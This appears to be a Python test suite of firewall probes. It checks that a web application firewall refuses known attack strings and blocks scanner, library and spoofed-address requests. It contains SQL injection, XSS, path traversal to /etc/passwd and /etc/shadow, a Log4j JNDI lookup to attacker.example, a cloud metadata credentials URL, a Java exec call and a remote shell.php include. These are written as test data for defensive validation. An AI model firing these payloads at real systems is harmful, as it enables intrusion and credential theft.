"""What the firewall is there for: known attacks in every place, agents, disguises."""

from __future__ import annotations

from urllib.parse import quote

from attacks.probe import (
    BAD,
    LIBRARY,
    REFUSED,
    SERVED,
    Need,
    Probe,
    Request,
    Source,
    Step,
    purchase,
)  # fmt: skip

_WAF = ("stage-behind-firewall", "firewall-baseline", "firewall-nothing-counted")


def _in_query(text: str, label: str = "query") -> Request:
    return Request(label, query="q=" + quote(text, safe=""))


def _in_body(text: str, label: str = "body") -> Request:
    return Request(label, body={"transactions": [purchase(category=text)]})


def _in_cookie(text: str, label: str = "cookie") -> Request:
    return Request(label, headers={"Cookie": "session=" + text.replace(";", "%3B")})


def _in_header(name: str, text: str) -> Request:
    return Request(f"header {name}", headers={name: text})


def _injection(name: str, title: str, *requests: Request, threats: tuple[str, ...] = ()) -> Probe:
    return Probe(name, title, ("API8", "AML.T0049", *threats), _WAF, (Step(requests, REFUSED),))


def _agents(*agents: str | None) -> tuple[Request, ...]:
    return tuple(Request((agent or "none").split("/")[0], agent=agent) for agent in agents)


_SQL = "1' OR '1'='1' UNION SELECT password FROM users--"
_XSS = "<script>alert(document.cookie)</script>"
_FILE = "../../../../etc/passwd"
_LOG4J = "${jndi:ldap://attacker.example/a}"
_METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
_JAVA = '(java.lang.Runtime).getRuntime().exec("whoami")'

PROBES = (
    Probe(
        "harmless-passes",
        "What looks like the attacks below and is none is not refused by the firewall",
        ("API8",),
        ("firewall-baseline",),
        (
            Step(
                (
                    _in_query("hello"),
                    _in_cookie("hello"),
                    _in_header("X-Note", "select a gift from the union store"),
                    _in_header("Referer", "https://shop.example/cart"),
                ),
                SERVED,
            ),
            Step((_in_body("select gifts"), _in_body("a script for a play")), BAD),
        ),
    ),
    _injection(
        "sql-injection", "SQL in query, body and cookie", _in_query(_SQL), _in_body(_SQL), _in_cookie(_SQL)
    ),
    _injection(
        "cross-site-scripting",
        "Script tags in query, body and cookie",
        _in_query(_XSS),
        _in_body(_XSS),
        _in_cookie(_XSS),
    ),
    _injection(
        "path-traversal",
        "The way to /etc/passwd in query and body, plain and encoded",
        _in_query(_FILE),
        _in_body(_FILE),
        Request("encoded", query="q=..%2f..%2f..%2fetc%2fpasswd"),
    ),
    _injection(
        "system-files",
        "Linux files that describe the system, in query and cookie",
        _in_query("/proc/self/environ"),
        _in_query("/proc/version", "query version"),
        _in_cookie("/etc/shadow"),
    ),
    _injection(
        "log4j-lookup",
        "A JNDI lookup in query, body and a header that gets logged",
        _in_query(_LOG4J),
        _in_body(_LOG4J),
        _in_header("X-Api-Version", _LOG4J),
    ),
    _injection(
        "java-deserialization",
        "Java's way to a shell in body and query",
        _in_body(_JAVA),
        _in_query(_JAVA),
    ),
    _injection(
        "metadata-service",
        "The address of the instance's credentials in query and body",
        _in_query(_METADATA),
        _in_body(_METADATA),
        threats=("API7", "AML.T0055"),
    ),
    _injection(
        "remote-file",
        "A remote file to include, by address",
        Request("query", query="file=http://198.18.0.7/shell.php%3f"),
        threats=("API7",),
    ),
    _injection(
        "restricted-extension",
        "Files that hold configuration and logs",
        Request("ini", query="file=settings.ini"),
        Request("log", query="file=error.log"),
    ),
    _injection(
        "long-query",
        "A query of more than 2 KB",
        Request("query", query="q=" + "a" * 2100),
        threats=("API4", "AML.T0029"),
    ),
    Probe(
        "agent-none",
        "No User-Agent",
        ("API8", "AML.T0040"),
        _WAF,
        (Step(_agents(None), REFUSED),),
    ),
    Probe(
        "agent-scanner",
        "User agents of vulnerability scanners",
        ("API8", "AML.T0006"),
        _WAF,
        (
            Step(
                _agents(
                    "Nessus/10.8",
                    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                ),
                REFUSED,
            ),
        ),
    ),
    Probe(
        "agent-library",
        "User agents of HTTP libraries, with the right key",
        ("API6", "AML.T0040"),
        _WAF,
        (
            Step(
                _agents(
                    LIBRARY,
                    "python-httpx/0.28.1",
                    "curl/8.15.0",
                    "Go-http-client/1.1",
                    "okhttp/4.12.0",
                    "Java/21.0.1",
                ),
                REFUSED,
            ),
        ),
        (Need.BOTS_BLOCKED,),
    ),
    Probe(
        "agent-known-caller",
        "The same libraries from a known caller's network are served",
        ("API6",),
        ("firewall-baseline",),
        (Step((Request("library", agent=LIBRARY, source=Source.KNOWN),), SERVED),),
    ),
    Probe(
        "known-caller-attacks",
        "A known caller is excepted from the bots' rules only: its injections are refused",
        ("API8", "AML.T0012"),
        _WAF,
        (
            Step(
                (
                    Request("sql", query="q=" + quote(_SQL, safe=""), source=Source.KNOWN),
                    Request("log4j", query="q=" + quote(_LOG4J, safe=""), source=Source.KNOWN),
                ),
                REFUSED,
            ),
        ),
    ),
    Probe(
        "address-spoofed",
        "A library that claims a known caller's address in forwarding headers",
        ("API2", "API8", "AML.T0012"),
        (*_WAF, "firewall-no-early-allow"),
        (
            Step(
                tuple(
                    Request(name, agent=LIBRARY, headers={name: value})
                    for name, value in (
                        ("X-Forwarded-For", "198.51.100.7"),
                        ("X-Real-IP", "198.51.100.7"),
                        ("Forwarded", "for=198.51.100.7"),
                        ("True-Client-IP", "198.51.100.7"),
                        ("CF-Connecting-IP", "198.51.100.7"),
                    )
                ),
                REFUSED,
            ),
        ),
        (Need.BOTS_BLOCKED,),
    ),
)
